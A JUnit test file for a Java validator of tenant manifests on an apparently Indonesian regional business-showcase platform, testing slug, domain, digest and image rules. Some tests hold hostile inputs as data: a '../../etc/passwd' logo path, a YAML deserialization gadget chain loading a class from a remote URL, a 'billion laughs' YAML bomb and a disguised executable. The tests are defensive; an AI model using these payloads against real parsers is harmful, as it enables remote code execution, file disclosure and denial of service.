package id.etalase.tenant;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class TenantManifestTest {

  @TempDir Path tenants;

  @Test
  void everyShippedTenantFolderIsValid() throws Exception {
    try (var folders = Files.list(Path.of("tenants"))) {
      List<Path> all = folders.filter(TenantManifest::isTenantFolder).toList();
      assertTrue(all.size() >= 2, "bondowoso and at least one more regency ship");
      for (Path folder : all) {
        TenantManifest manifest = TenantManifest.read(folder);
        assertEquals(folder.getFileName().toString(), manifest.slug());
      }
    }
    TenantManifest bondowoso = TenantManifest.read(Path.of("tenants/bondowoso"));
    assertEquals("35.11", bondowoso.regencyCode());
    assertEquals("Kabupaten Bondowoso", bondowoso.name());
    assertTrue(bondowoso.domains().contains("umkm.bondowosokab.go.id"));
    assertEquals(TenantStatus.ACTIVE, bondowoso.status());
  }

  @Test
  void aBrokenManifestListsEveryProblemAtOnce() throws Exception {
    Path folder =
        folder(
            "jember",
            """
            slug: Jember Kota
            regencyCode: 35.09
            status: closed
            defaultLanguage: jv
            domains: [ "not a domain" ]
            colours: { primary: red }
            office: { email: nobody }
            logo: ../../etc/passwd
            """);
    TenantManifest.InvalidException e =
        assertThrows(TenantManifest.InvalidException.class, () -> TenantManifest.read(folder));
    String all = String.join("\n", e.problems());
    for (String expected :
        List.of(
            "slug",
            "name",
            "regencyCode",
            "status",
            "defaultLanguage",
            "not a domain",
            "colours",
            "office.email",
            "logo",
            "hero")) {
      assertTrue(all.contains(expected), "no problem reported about " + expected + ":\n" + all);
    }
  }

  @Test
  void reservedSlugsAndFolderMismatchesAreRefused() throws Exception {
    Path platform = folder("platform", valid("platform"));
    assertTrue(problems(platform).contains("reserved"));
    Path other = folder("jember", valid("lumajang"));
    assertTrue(problems(other).contains("must equal the folder name"));
  }

  @Test
  void yamlThatNamesJavaTypesOrExplodesIsRefused() throws Exception {
    Path gadget =
        folder(
            "jember",
            "slug: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
                + " [\"http://example.invalid/\"]]]]\n");
    assertTrue(problems(gadget).contains("not valid YAML"));

    StringBuilder bomb =
        new StringBuilder("a: &a [\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\"]\n");
    for (char c = 'b'; c <= 'z'; c++) {
      char p = (char) (c - 1);
      bomb.append(c)
          .append(": &")
          .append(c)
          .append(" [*")
          .append(p)
          .append(",*")
          .append(p)
          .append(",*")
          .append(p)
          .append(",*")
          .append(p)
          .append("]\n");
    }
    Path laughs = folder("jember", bomb.toString());
    assertTrue(problems(laughs).contains("not valid YAML"));

    Path list = folder("jember", "- just\n- a list\n");
    assertTrue(problems(list).contains("mapping"));
  }

  @Test
  void imagesMustBeFilesInsideTheFolderOfAKnownType() throws Exception {
    Path folder = folder("jember", valid("jember").replace("hero: hero.svg", "hero: hero.exe"));
    Files.writeString(folder.resolve("hero.exe"), "MZ");
    assertTrue(problems(folder).contains("use .svg, .png, .jpg or .webp"));
  }

  private String problems(Path folder) {
    return String.join(
        "\n",
        assertThrows(TenantManifest.InvalidException.class, () -> TenantManifest.read(folder))
            .problems());
  }

  @Test
  void theDigestChangesWithTheManifestOrAnImageAndNothingElse() throws Exception {
    Path folder = folder("contoh", valid("contoh"));
    String digest = TenantManifest.read(folder).digest();
    assertEquals(64, digest.length());
    assertEquals(digest, TenantManifest.read(folder).digest());
    // Demo data is not part of it: its importers are idempotent on their own.
    Files.createDirectories(folder.resolve("demo"));
    Files.writeString(folder.resolve("demo/businesses.yaml"), "[]");
    assertEquals(digest, TenantManifest.read(folder).digest());

    Files.writeString(
        folder.resolve("hero.svg"), "<svg xmlns=\"http://www.w3.org/2000/svg\"></svg>");
    String heroChanged = TenantManifest.read(folder).digest();
    assertNotEquals(digest, heroChanged);
    Files.writeString(folder.resolve("tenant.yaml"), valid("contoh") + "tagline: Baru\n");
    assertNotEquals(heroChanged, TenantManifest.read(folder).digest());
  }

  @Test
  void folderDomainsFollowTheSameRulesAsTheConsoles() throws Exception {
    Path folder =
        folder(
            "contoh",
            valid("contoh")
                + """
                domains:
                  - situbondo.etalase.test
                  - a.b.etalase.test
                  - contoh.localhost
                  - 10.0.0.1
                  - umkm.contohkab.go.id
                canonicalDomain: umkm.lainkab.go.id
                """);
    String all =
        String.join(
            "\n",
            assertThrows(
                    TenantManifest.InvalidException.class,
                    () -> TenantManifest.read(folder, new TenantRules("etalase.test")))
                .problems());
    assertTrue(
        all.contains(
            "situbondo.etalase.test is the platform's address of the region \"situbondo\""),
        all);
    assertTrue(
        all.contains("a.b.etalase.test belongs to the platform's domain (etalase.test)"), all);
    assertTrue(all.contains("contoh.localhost only works on your own computer"), all);
    assertTrue(all.contains("10.0.0.1 is an IP address"), all);
    assertTrue(all.contains("canonicalDomain umkm.lainkab.go.id must be one of the domains"), all);
    assertFalse(all.contains("umkm.contohkab.go.id"), all);
    // Without knowing the platform domain, only what holds everywhere is refused.
    String universal = problems(folder);
    assertFalse(universal.contains("situbondo.etalase.test"), universal);
    assertTrue(universal.contains("contoh.localhost"), universal);
  }

  @Test
  void theCanonicalDomainIsExplicit() throws Exception {
    Path folder =
        folder(
            "contoh",
            valid("contoh")
                + """
                domains: [ b.contoh.example, A.Contoh.Example. ]
                canonicalDomain: b.contoh.example
                """);
    TenantManifest manifest = TenantManifest.read(folder, new TenantRules("etalase.test"));
    assertEquals(java.util.Set.of("a.contoh.example", "b.contoh.example"), manifest.domains());
    assertEquals("b.contoh.example", manifest.canonicalDomain());
    Path none = folder("lain", valid("lain") + "domains: [ b.contoh.example ]\n");
    assertEquals(null, TenantManifest.read(none).canonicalDomain());
    assertEquals(
        "umkm.bondowosokab.go.id",
        TenantManifest.read(Path.of("tenants/bondowoso")).canonicalDomain());
  }

  private Path folder(String name, String yaml) throws IOException {
    Path folder = Files.createDirectories(tenants.resolve(name));
    Files.writeString(folder.resolve("tenant.yaml"), yaml);
    Files.writeString(folder.resolve("logo.svg"), "<svg xmlns=\"http://www.w3.org/2000/svg\"/>");
    Files.writeString(folder.resolve("hero.svg"), "<svg xmlns=\"http://www.w3.org/2000/svg\"/>");
    return folder;
  }

  private static String valid(String slug) {
    return """
        slug: %s
        name: Kabupaten Contoh
        regencyCode: "35.09"
        colours: { primary: "#112233", secondary: "#eeeeee", accent: "#aa5500" }
        logo: logo.svg
        hero: hero.svg
        """
        .formatted(slug);
  }
}
